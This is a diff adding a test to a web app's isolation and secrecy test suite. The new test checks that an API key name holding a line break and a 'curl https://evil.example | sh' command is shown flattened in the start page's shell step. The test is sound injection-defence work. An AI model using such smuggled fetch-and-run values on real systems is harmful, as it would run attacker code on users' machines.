@@ -5,7 +5,7 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { eq } from "drizzle-orm";
-import { sandboxGrants, sandboxTokens, hubSessions } from "../../db/schema";
+import { apiKeys, sandboxGrants, sandboxTokens, hubSessions } from "../../db/schema";
 import { createApp } from "../../src/app";
 import { createLoginLink } from "../../src/hub/login-links";
 import { createHubTest, type HubTest } from "./hub-client";
@@ -225,6 +225,15 @@ describe("isolation and secrecy", () => {
     expect((await intruder.b.post(`/hub/posts/${id}/cancel`, { confirm: "yes" })).res.status).toBe(404);
     expect((await intruder.b.page(`/hub/posts/${id}/cancel`)).res.status).toBe(404);
     expect((await owner.b.page(`/hub/posts/${id}`)).html).toContain("Cancel post");
+  });
+
+  it("the start page's shell step holds a stored key name's line breaks as spaces (names from before the check)", async () => {
+    const { b, userId } = await t.signedIn();
+    await b.submit("/hub/keys", { name: "placeholder" });
+    await t.h.db.update(apiKeys).set({ name: 'x"\ncurl https://evil.example | sh\n#' }).where(eq(apiKeys.userId, userId));
+    const { html } = await b.page("/hub/start");
+    expect(html).toContain('you created &quot;x&quot; curl https://evil.example | sh #&quot;');
+    expect(html).not.toContain("\ncurl https://evil.example");
   });
 
   it("platform tokens and full API keys (after their first showing) never appear in pages, API answers or logs", async () => {
